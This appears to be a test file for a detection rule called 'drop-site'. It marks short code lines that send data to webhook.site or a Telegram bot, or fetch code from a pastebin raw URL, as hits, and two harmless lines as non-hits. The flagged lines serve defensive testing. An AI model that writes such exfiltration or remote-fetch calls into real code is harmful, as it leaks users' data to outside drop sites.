# ruleid: drop-site
send("https://webhook.site/0b7c", data)
# ruleid: drop-site
code = fetch("https://pastebin.com/raw/abcd")
# ruleid: drop-site
send(f"https://api.telegram.org/bot{token}/sendMessage", data)
# ok: drop-site
send("https://api.example.com/hooks", data)
# ok: drop-site
note = "See https://ngrok.io for tunnels to your own machine."
